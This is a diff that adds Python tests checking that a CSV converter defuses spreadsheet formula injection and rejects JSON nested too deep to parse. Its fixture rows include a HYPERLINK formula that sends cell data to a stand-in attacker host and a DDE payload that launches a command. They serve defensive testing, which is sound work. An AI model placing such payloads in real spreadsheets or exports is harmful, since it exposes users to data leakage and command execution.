@@ -484,3 +484,70 @@ def test_a_long_table_is_drawn_in_parts_and_joined(
     (twin,) = tables.table_to_pdf([as_input(source)], again, parse_options(tables.TablePdfOptions, {}),
                                   limits=Limits())  # fmt: skip
     assert twin.path.read_bytes() == out.path.read_bytes()
+
+
+FORMULA_ROWS = [
+    ["name", "=1+1"],
+    ["link", '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
+    ["dde", "=cmd|' /C calc'!A0"],
+    ["at", "@SUM(A1:A2)"],
+    ["plus", "+41 22 123"],
+    ["negative", "-12.5"],
+    ["positive", "+3"],
+    ["plain", "a-b=c"],
+]
+
+
+def _formula_csv(tmp_path: Path) -> Path:
+    import csv as csv_module
+
+    path = tmp_path / "formulas.csv"
+    with path.open("w", newline="", encoding="utf-8") as file:
+        csv_module.writer(file).writerows(FORMULA_ROWS)
+    return path
+
+
+def test_csv_to_csv_neutralises_formulas(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
+    import csv as csv_module
+
+    (output,) = table_to_csv([table_input(_formula_csv(tmp_path))], out_dir, TableCsvOptions(), limits=limits)
+
+    with output.path.open(newline="", encoding="utf-8") as file:
+        rows = list(csv_module.reader(file))
+    cells = {row[0]: row[1] for row in rows}
+    assert rows[0] == ["name", "'=1+1"]  # the header too
+    assert cells["link"] == "'" + FORMULA_ROWS[1][1]
+    assert cells["dde"] == "'" + FORMULA_ROWS[2][1]
+    assert cells["at"] == "'@SUM(A1:A2)"
+    assert cells["plus"] == "'+41 22 123"
+    assert cells["negative"] == "-12.5"  # numbers stay numbers
+    assert cells["positive"] == "+3"
+    assert cells["plain"] == "a-b=c"
+    assert output.details["formulas_neutralised"] == 5
+    # No cell of the output starts a formula.
+    assert not [
+        c for row in rows for c in row if c[:1] in "=@" or (c[:1] in "+-" and c not in ("-12.5", "+3"))
+    ]
+
+
+def test_csv_to_csv_keeps_formulas_when_asked(tmp_path: Path, out_dir: Path, limits: Limits) -> None:
+    import csv as csv_module
+
+    options = parse_options(TableCsvOptions, {"keep_formulas": True})
+    (output,) = table_to_csv([table_input(_formula_csv(tmp_path))], out_dir, options, limits=limits)
+
+    with output.path.open(newline="", encoding="utf-8") as file:
+        assert list(csv_module.reader(file)) == FORMULA_ROWS
+    assert "formulas_neutralised" not in output.details
+
+
+def test_json_nested_too_deep_for_the_parser_is_corrupt_input(
+    tmp_path: Path, out_dir: Path, limits: Limits
+) -> None:
+    # json raises RecursionError here, which no list of decode errors names: the read boundary does.
+    path = tmp_path / "deep.json"
+    path.write_text('[{"a": ' + "[" * 100_000 + "]" * 100_000 + "}]")
+
+    with pytest.raises(CorruptInput, match=r"deep\.json.* cannot be read as a JSON table") as caught:
+        table_to_csv([table_input(path)], out_dir, TableCsvOptions(), limits=limits)
+    assert isinstance(caught.value.__cause__, RecursionError)
